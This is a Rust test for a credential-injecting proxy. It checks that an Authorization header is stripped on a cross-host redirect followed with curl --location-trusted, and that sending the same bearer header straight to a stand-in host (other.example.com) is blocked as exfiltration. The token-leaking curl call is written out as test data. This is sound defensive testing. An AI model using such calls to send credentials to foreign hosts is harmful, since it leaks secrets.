//! Attack: the pinned host (or whoever controls a redirect on it) answers 302 to another host, and the client
//! follows it carrying the `Authorization` header with the surrogate (curl `--location-trusted`). The broker
//! strips the auth header on that cross-host hop instead of injecting there; the same header sent straight to the
//! other host, with no redirect, is refused as exfiltration.

use crate::common::{API_REAL, API_SURROGATE, inject_harness};

#[test]
fn follow_a_redirect_with_injected_auth() {
    let h = inject_harness();
    let landing = h.tls_url("other.example.com", "/quiet");
    let start = h.tls_url("api.example.com", &format!("/redirect-to?{landing}"));
    let auth = format!("Authorization: Bearer {API_SURROGATE}");
    let r = h.curl_opened(&["--location-trusted", "-H", &auth, &start]);
    assert_eq!(r.status, 200, "{r:?}");
    let seen = h.tls_upstream.seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[0].headers["authorization"], format!("Bearer {API_REAL}"), "the pinned host got the real value");
    assert!(seen[1].uri.ends_with("/quiet"), "{}", seen[1].uri);
    assert!(!seen[1].headers.contains_key("authorization"), "the other host got no auth: {:?}", seen[1].headers);

    // Without a redirect to follow, the same request is an exfiltration attempt.
    let r = h.curl_opened(&["-H", &auth, &landing]);
    assert_eq!(r.status, 403, "{r:?}");
    assert_eq!(r.json()["kind"], "exfiltration");
}
